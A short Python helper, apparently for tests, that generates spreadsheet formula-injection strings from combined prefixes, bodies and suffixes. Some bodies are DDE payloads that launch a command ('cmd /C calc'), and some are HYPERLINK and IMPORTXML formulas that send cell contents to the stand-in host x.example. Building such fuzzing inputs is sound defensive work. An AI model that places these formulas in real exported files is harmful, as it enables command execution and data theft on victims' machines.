"""Texts that spreadsheets would run, if they could."""

import itertools
import random

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_STARTS = (*DANGEROUS, " =", "\u00a0=", "\u200b+", "\ufeff@", "'=", '"=', ";=", ",=", "\u2212")
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"click")', "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"x\")", "A1",
    "WEBSERVICE(A1)", "2+5+cmd|'/C calc'!A0", "(1)", "''", '"";=1+1', "\n=1+1", "x\r\n=2+2",
)  # fmt: skip
_ENDS = ("", " ", '"', "'", ",=1", ";=1", "\t=1", "\n", "\u202e", "\U0001f48a")


def hostile_strings(count: int) -> list[str]:
    """Return ``count`` hostile texts, the same ones each time."""
    made = ["".join(parts) for parts in itertools.product(_STARTS, _BODIES, _ENDS)]
    dice = random.Random(7)
    alphabet = "".join(_STARTS) + "aA1!|&()\"',; _x000D"
    while len(made) < count:
        made.append(dice.choice(_STARTS) + "".join(dice.choices(alphabet, k=dice.randrange(12))))
    return made[:count]
